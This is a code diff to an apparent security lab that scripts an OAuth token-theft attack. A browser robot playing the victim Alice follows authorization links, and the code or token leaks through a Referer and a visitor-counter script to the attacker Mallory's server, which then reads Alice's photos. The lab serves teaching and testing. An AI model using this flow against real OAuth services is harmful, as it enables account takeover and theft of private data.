@@ -1,7 +1,7 @@
+import type { Page } from 'playwright'
 import type { Answer, EvilPage, Place } from '../engine/lab.ts'
 import { authorizationUrl, newVerifier, readPhotos, requestTokens } from '../engine/own-client.ts'
-import type { Person } from '../engine/person.ts'
-import { lookAtPage } from './look-at-page.ts'
+import { walkAsAlice, withRobot } from '../engine/robot.ts'
 
 const LANDED = /\/spa\/callback/
 const VERIFIER = 'a'.repeat(43)
@@ -25,31 +25,30 @@ code=`
  * Mallory, who counts the visitors of PrintShop’s page, sends Alice two links to CloudDrive. Each asks for PrintShop’s page, at
  * its right address: one for a code, the other for a token at once.
  */
-export async function attack(place: Place): Promise<Answer> {
-  const alice = place.person('alice')
-  await readWithCode(place, alice)
+export const attack = (place: Place): Promise<Answer> =>
+  withRobot(async (page) => {
+    await readWithCode(place, page)
 
-  const forToken = new URL(question(place, newVerifier().code_challenge))
-  forToken.searchParams.set('response_type', 'token')
-  const first = await alice.open(forToken)
-  const refusal = first.headers.get('Location') ?? ''
-  if (refusal.includes('error='))
-    return { status: first.status, text: decodeURIComponent(refusal).replaceAll('+', ' ') }
-  await follow(alice, forToken.href)
-  const { page = '' } = Object.fromEntries(new URL(place.inbox.at(-1)?.path ?? '', place.evil).searchParams)
-  return readPhotos(place, Object.fromEntries(new URLSearchParams(page.split('#')[1])))
-}
+    const forToken = new URL(question(place, newVerifier().code_challenge))
+    forToken.searchParams.set('response_type', 'token')
+    const [, answer] = await Promise.all([follow(page, forToken.href), firstAnswer(page, place)])
+    if (answer.to.includes('error='))
+      return { status: answer.status, text: decodeURIComponent(answer.to).replaceAll('+', ' ') }
+    const { page: seen = '' } = Object.fromEntries(new URL(place.inbox.at(-1)?.path ?? '', place.evil).searchParams)
+    return readPhotos(place, Object.fromEntries(new URLSearchParams(seen.split('#')[1])))
+  })
 
 /** A question of Alice’s own: its code is in the Referer too, and Mallory does not know the verifier. */
 export async function wrongAttempt(place: Place): Promise<Answer> {
-  await follow(place.person('alice'), `${question(place, newVerifier().code_challenge)}&state=of-her-own-page`)
+  const asked = `${question(place, newVerifier().code_challenge)}&state=of-her-own-page`
+  await withRobot((page) => follow(page, asked))
   return redeem(place, newVerifier().code_verifier)
 }
 
 // Mallory asked, so she knows the verifier.
-async function readWithCode(place: Place, alice: Person): Promise<void> {
+async function readWithCode(place: Place, page: Page): Promise<void> {
   const { code_verifier, code_challenge } = newVerifier()
-  await follow(alice, question(place, code_challenge))
+  await follow(page, question(place, code_challenge))
   const answer = await redeem(place, code_verifier)
   if (answer.status === 200) await readPhotos(place, answer.tokens)
 }
@@ -62,9 +61,17 @@ function question(place: Place, code_challenge: string): string {
   return url.href
 }
 
-async function follow(alice: Person, link: string): Promise<void> {
-  const { url } = await alice.walk(link, { photos: 4, stopAt: LANDED })
-  await lookAtPage(alice, url)
+// What her browser tells the counter is the browser’s own doing: in a Referer, and by the page’s script.
+async function follow(page: Page, link: string): Promise<void> {
+  const told = [/count\.gif$/, /count\.gif\?page=/].map((one) => page.waitForResponse(one))
+  await walkAsAlice(page, link, { photos: 4, there: LANDED })
+  await Promise.all(told)
+}
+
+/** What CloudDrive answers to a question first: where it sends her. */
+async function firstAnswer(page: Page, { auth }: Place): Promise<{ status: number; to: string }> {
+  const answer = await page.waitForResponse((one) => one.url().startsWith(`${auth}/authorize`))
+  return { status: answer.status(), to: (await answer.headerValue('Location')) ?? '' }
 }
 
 function redeem(place: Place, code_verifier: string) {
